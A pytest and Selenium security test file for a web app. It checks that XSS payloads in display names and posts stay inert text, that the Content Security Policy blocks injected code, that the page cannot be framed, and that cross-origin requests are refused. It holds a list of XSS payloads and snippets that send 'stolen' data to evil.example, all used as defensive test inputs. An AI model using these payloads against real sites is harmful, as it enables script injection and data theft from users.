"""Script in names and posts, and what the page's policy stops, in a real browser."""

from __future__ import annotations

import http.server
import threading
from typing import Any, Iterator

import pytest
from selenium import webdriver
from selenium.webdriver.common.by import By

from browser import Window, driver, pytestmark  # noqa: F401  (a fixture and a mark)
from martlet_process import Server
from support import PASSWORD, User, eventually, expect, http_client, unique_handle

# Each sets `pwned` if it is obeyed; none is longer than a display name may be.
PAYLOADS = [
    "<script>pwned=1</script>", "<img src=x onerror=pwned=1>", "<svg onload=pwned=1>", '"><img src=x onerror=pwned=1>',
    "'><svg/onload=pwned=1>", "</bdi></p></script><svg onload=pwned=1>", "<iframe srcdoc='<script>parent.pwned=1</script>'>",
    "<a href=javascript:pwned=1>x</a>", "javascript:pwned=1", "{{constructor.constructor('pwned=1')()}}", "${pwned=1}", "`${pwned=1}`",
    "<details open ontoggle=pwned=1>x</details>", "<input autofocus onfocus=pwned=1>", "<object data=javascript:pwned=1>",
    "<embed src=javascript:pwned=1>", "<base href=//evil.example>", "<style>*{display:none}</style>",
    "<link rel=stylesheet href=data:text/css,*{display:none}>", "</article><article data-post-id=1>x", "<!--", "<![CDATA[<svg onload=pwned=1>",
    "&lt;script&gt;pwned=1&lt;/script&gt;", "\\u003cscript\\u003epwned=1\\u003c/script\\u003e", "<plaintext>", "<math><mi//xlink:href='javascript:pwned=1'>",
    "<form action=//evil.example><button>x", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<video><source onerror=pwned=1>",
]
# Each post has links to its own page; all others are foreign.
FOREIGN = "script, img, iframe, object, embed, base, style, link, form, meta, video, details, input, math, a[href]:not([href^=\"#/posts/\"]), [onerror], [onload], [onfocus]"


@pytest.fixture
def users(server: Server) -> Iterator[dict[str, User]]:
    """A user for each payload, who is called by it."""
    made = {}
    for payload in PAYLOADS:
        body = {"handle": unique_handle("mallory"), "password": PASSWORD, "display_name": payload}
        with http_client(server.url) as http:
            made[payload] = User.of_session(server, expect(http.post("/v1/auth/signup", json=body), 201).json())
    yield made
    for user in made.values():
        user.close()


def logged_in(driver: webdriver.Chrome, server: Server, user: User) -> Window:
    window = Window(driver, f"http://localhost:{server.port}/")
    window.fill("login-form", handle=user.handle, password=user.password)
    window.is_live()
    return window


def assert_literal(window: Window, payloads: list[str]) -> None:
    """Every payload is in the page as name and as text, character by character, and has become no element."""
    shown = "return [...document.querySelectorAll('[data-testid=feed] article')].map(a => [a.querySelector('.name-button').textContent, a.querySelector('.text').textContent])"
    expected = {(payload, f"text {payload}") for payload in payloads}
    eventually(lambda: expected <= {tuple(pair) for pair in window.script(shown)}, 15, "all posts, as they are")
    obeyed = f"[data-testid=feed] article :is({FOREIGN}), [data-testid=following-list] :is({FOREIGN})"
    assert window.script(f"return [...document.querySelectorAll('{obeyed}')].map(e => e.outerHTML)") == []
    assert window.script("return typeof pwned") == "undefined"


def test_script_in_names_and_posts(server: Server, users: dict[str, User], driver: webdriver.Chrome) -> None:
    """Live, after a reload, in the list of those who are followed, and on a user's card: it is text, and runs nowhere."""
    reader = User.signup(server, "reader")
    for user in users.values():
        reader.follow(user)
    window = logged_in(driver, server, reader)
    window.mark()
    for payload, user in users.items():
        user.post(f"text {payload}")
    assert_literal(window, PAYLOADS)
    followed = "return [...document.querySelectorAll('[data-testid=following-list] li bdi')].map(e => e.textContent)"
    assert set(PAYLOADS) <= set(eventually(lambda: window.script(followed), 10, "the list of the followed"))
    assert window.was_not_reloaded()
    window._here().refresh()
    assert_literal(window, PAYLOADS)
    for payload in PAYLOADS[:8]:
        window.script(f"[...document.querySelectorAll('article .name-button')].find(b => b.textContent === {payload!r}).click()")
        eventually(lambda: window.script("return document.getElementById('card-name')?.textContent") == payload, 10, "the card")
        assert window.script("return document.querySelectorAll('#card :is(script, img, iframe, a[href])').length") == 0
        window.script("document.getElementById('card').close()")
    assert window.script("return typeof pwned") == "undefined"
    refused = [entry["message"] for entry in driver.get_log("browser") if "Content Security Policy" in entry["message"]]
    assert refused == [], "something was obeyed up to the policy"
    reader.close()


INJECTIONS = {
    "script-src-elem inline": "const s = document.createElement('script'); s.textContent = 'window.pwned = 1'; document.body.append(s)",
    "script-src-elem https://evil.example/x.js": "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
    "script-src-elem data": "const s = document.createElement('script'); s.src = 'data:text/javascript,window.pwned=1'; document.body.append(s)",
    "script-src-elem blob": "const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob(['window.pwned=1'])); document.body.append(s)",
    "script-src-attr inline": "const d = document.createElement('div'); d.setAttribute('onclick', 'window.pwned=1'); document.body.append(d); d.click()",
    "script-src eval": "setTimeout('window.pwned = 1')",
    "style-src-elem inline": "const s = document.createElement('style'); s.textContent = 'body{display:none}'; document.body.append(s)",
    "style-src-elem https://evil.example/x.css": "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://evil.example/x.css'; document.head.append(l)",
    "img-src https://evil.example/x": "new Image().src = 'https://evil.example/x?' + 'stolen'",
    "connect-src https://evil.example/": "fetch('https://evil.example/', {method: 'POST', body: 'stolen', mode: 'no-cors'}).catch(() => {})",
    "connect-src wss://evil.example": "try { new WebSocket('wss://evil.example') } catch {}",
    "frame-src https://evil.example": "const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f)",
    "object-src https://evil.example": "const o = document.createElement('object'); o.data = 'https://evil.example/x'; document.body.append(o)",
    "base-uri https://evil.example": "const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b)",
    "form-action https://evil.example": "const f = document.createElement('form'); f.method = 'post'; f.action = 'https://evil.example/'; document.body.append(f); f.submit()",
    "form-action http://localhost": "const f = document.createElement('form'); f.method = 'post'; f.action = '/v1/auth/login'; document.body.append(f); f.submit()",
}


def test_what_is_injected_is_refused(server: Server, driver: webdriver.Chrome) -> None:
    """Were there a way in, the page's policy would stop what comes through: each violation is seen, nothing runs."""
    window = Window(driver, f"http://localhost:{server.port}/")
    window.script(
        "window.seen = []; document.addEventListener('securitypolicyviolation', "
        "e => window.seen.push(e.effectiveDirective + ' ' + e.blockedURI))")
    for violation, code in INJECTIONS.items():
        window.script(f"window.seen.length = 0; {{ {code} }}")
        eventually(lambda: any(seen.startswith(violation) for seen in window.script("return window.seen")), 5,
                   f"{violation}, not {window.script('return window.seen')}")
    assert window.script("return [typeof pwned, document.baseURI, getComputedStyle(document.body).display !== 'none']") == [
        "undefined", f"http://localhost:{server.port}/", True]


@pytest.fixture
def evil_page() -> Iterator[Any]:
    """A web server of another origin that answers everything with one page, which the test gives."""
    class Handler(http.server.BaseHTTPRequestHandler):
        page = ""

        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(Handler.page.encode())

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as running:
        threading.Thread(target=running.serve_forever, daemon=True).start()
        Handler.url = f"http://127.0.0.1:{running.server_port}/"
        yield Handler
        running.shutdown()


def test_no_site_frames_the_page(server: Server, driver: webdriver.Chrome, evil_page: Any) -> None:
    """Against clicks that are meant for something else. The frame of the same test's own page shows that framing works."""
    evil_page.page = f"<iframe id=own src='data:text/html,<p>framed</p>'></iframe><iframe id=victim src='http://localhost:{server.port}/'></iframe>"
    driver.get(evil_page.url)
    driver.switch_to.frame("own")
    assert driver.find_element(By.TAG_NAME, "p").text == "framed"
    driver.switch_to.default_content()
    driver.switch_to.frame("victim")
    assert driver.find_elements(By.CSS_SELECTOR, "[data-testid=signup-form]") == []
    assert driver.execute_script("return location.href").startswith("chrome-error:")


def test_another_sites_script_reads_and_does_nothing(server: Server, driver: webdriver.Chrome, evil_page: Any) -> None:
    """From a page of another origin: no answer can be read, no live connection opened, and no form writes anything."""
    victim = User.signup(server, "victim")
    handle = unique_handle("forged")
    evil_page.page = "<form method=post enctype=text/plain target=_blank><input name='x' value='y'></form>"
    driver.get(evil_page.url)
    outcome = driver.execute_async_script("""
        const [base, token, handle, done] = arguments;
        const json = {"Content-Type": "application/json", Authorization: "Bearer " + token};
        const body = JSON.stringify({handle, password: "a long password"});
        const reads = (path, options) => fetch(base + path, options).then(a => a.type === "opaque" ? "opaque" : "read", () => "refused");
        const opens = (link) => new Promise(told => { link.onopen = () => told("opened"); link.onerror = () => told("refused"); });
        (async () => done({
            me: await reads("/v1/me", {headers: json}), page: await reads("/openapi.json"), user: await reads("/v1/users/1"),
            post: await reads("/v1/posts", {method: "POST", headers: json, body: '{"text":"forged"}'}),
            signup: await reads("/v1/auth/signup", {method: "POST", headers: {"Content-Type": "application/json"}, body}),
            simple: await reads("/v1/auth/signup", {method: "POST", mode: "no-cors", body}),
            beacon: navigator.sendBeacon(base + "/v1/auth/signup", body) ? "sent" : "not sent",
            socket: await opens(new WebSocket(base.replace("http", "ws") + "/v1/live/ws")),
            stream: await opens(new EventSource(base + "/v1/live/sse")),
        }))();
    """, f"http://localhost:{server.port}", victim.token, handle)
    assert outcome == {"me": "refused", "page": "refused", "user": "refused", "post": "refused", "signup": "refused",
                       "simple": "opaque", "beacon": "sent", "socket": "refused", "stream": "refused"}
    assert victim.walk(f"/v1/users/{victim.id}/posts") == []
    assert victim.http.get(f"/v1/users/@{handle}").status_code == 404
    victim.close()


def test_an_answer_is_no_page(server: Server, users: dict[str, User], driver: webdriver.Chrome) -> None:
    """Opened in the browser, JSON with markup in it, errors that repeat what was asked included, stays JSON."""
    attacks = [f"/v1/users/{users[PAYLOADS[0]].id}", "/v1/users/1?<img src=x onerror=pwned=1>", "/v1/<script>pwned=1</script>",
               "/v1/users/@<svg onload=pwned=1>"]
    for path in attacks:
        driver.get(f"http://localhost:{server.port}{path}")
        assert driver.execute_script("return document.contentType") in ("application/json", "application/problem+json"), path
        assert driver.execute_script("return [typeof pwned, document.querySelectorAll('script, svg, img').length]") == ["undefined", 0]
